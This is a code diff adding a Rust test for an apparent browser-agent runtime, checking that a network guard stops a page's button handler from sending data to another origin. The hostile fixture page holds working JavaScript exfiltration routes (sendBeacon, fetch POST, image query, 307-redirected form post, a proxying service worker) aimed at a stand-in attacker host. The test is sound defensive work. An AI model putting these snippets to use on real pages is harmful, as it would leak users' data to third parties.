@@ -130,3 +130,63 @@ async fn high_impact_is_known_from_structure_and_credential_origins_are_a_person
         "a download still asks"
     );
 }
+
+/// The network boundary: a same-origin button on a trusted page whose handler sends the page's
+/// data elsewhere — a beacon, a `fetch` POST, an image with a query, a form post that the page's
+/// own origin redirects (307 keeps the body), a request a moment later, and a service worker
+/// that would proxy the page's own requests to the attacker — runs, and none of it reaches the
+/// attacker: each request is blocked at the network layer and the receipt says so. The page's
+/// own requests and static subresources from elsewhere still load.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn requests_an_action_causes_reach_only_the_origins_it_was_judged_to_reach() {
+    let env = env("hostile-network", true).await;
+    let attacker = FixtureServer::start().await.unwrap();
+    let evil = attacker.origin();
+    attacker.route("/pixel.png", test_support::Route::Content { content_type: "image/png".into(), body: vec![0x89, b'P', b'N', b'G'] });
+    env.server.route("/bounce", test_support::Route::Redirect { status: 307, location: format!("{evil}/steal") });
+    env.server.route(
+        "/sw.js",
+        test_support::Route::Content {
+            content_type: "text/javascript".into(),
+            body: format!("self.addEventListener('fetch', (e) => {{ if (e.request.url.includes('/api')) e.respondWith(fetch('{evil}/sw?d=secret')); }});")
+                .into_bytes(),
+        },
+    );
+    env.server.html(
+        "/leaky.html",
+        format!(
+            r#"<!doctype html><title>Leaky</title>
+<img src="{evil}/pixel.png" alt=logo>
+<button id=go>Save</button><form id=f method=post action="/bounce"><input type=hidden name=d value=secret></form>
+<p id=out>idle</p>
+<script>
+navigator.serviceWorker && navigator.serviceWorker.register('/sw.js');
+document.getElementById('go').onclick = () => {{
+  navigator.sendBeacon('{evil}/beacon', 'secret');
+  fetch('{evil}/fetch', {{method: 'POST', body: 'secret'}}).catch(() => {{}});
+  new Image().src = '{evil}/img?d=secret';
+  fetch('/api').then(r => r.text()).then(t => document.getElementById('out').textContent = 'own ' + t).catch(() => {{}});
+  setTimeout(() => fetch('{evil}/later?d=secret').catch(() => {{}}), 400);
+  setTimeout(() => document.getElementById('f').submit(), 600);
+}};
+</script>"#
+        ),
+    );
+    env.server.html("/api", "ok");
+    crate::open(&env.runtime, &env.session, &env.server.url("/leaky.html")).await.unwrap();
+    // Let the service worker install and take control of a reload.
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    crate::open(&env.runtime, &env.session, &env.server.url("/leaky.html")).await.unwrap();
+    let o = crate::observe_until(&env.runtime, &env.session, "Save").await;
+    let outcome = env.runtime.act(&env.session, None, &click(&o, "Save"), &Default::default(), Duration::ZERO).await.unwrap();
+    let detail = outcome.receipt.detail().unwrap_or_default().to_owned();
+    assert!(detail.contains("network boundary blocked"), "the receipt says what was blocked: {detail:?}");
+    assert!(!detail.contains("secret"), "redacted: {detail}");
+    // The late requests fall inside the tail of the action's window.
+    tokio::time::sleep(browser::GUARD_TAIL + Duration::from_millis(500)).await;
+    let reached: Vec<String> = attacker.requests().iter().map(|r| format!("{} {}", r.method, r.path)).collect();
+    assert!(reached.iter().all(|r| r == "GET /pixel.png"), "only the page's static image reached the attacker's origin: {reached:?}");
+    assert!(reached.contains(&"GET /pixel.png".to_owned()), "static subresources still load: {reached:?}");
+    assert!(env.server.requests_to("/api").len() == 1, "the page's own request went to its own origin, around the service worker");
+    assert!(env.server.requests_to("/bounce").len() == 1, "the form post reached the page's origin, whose redirect was stopped");
+}
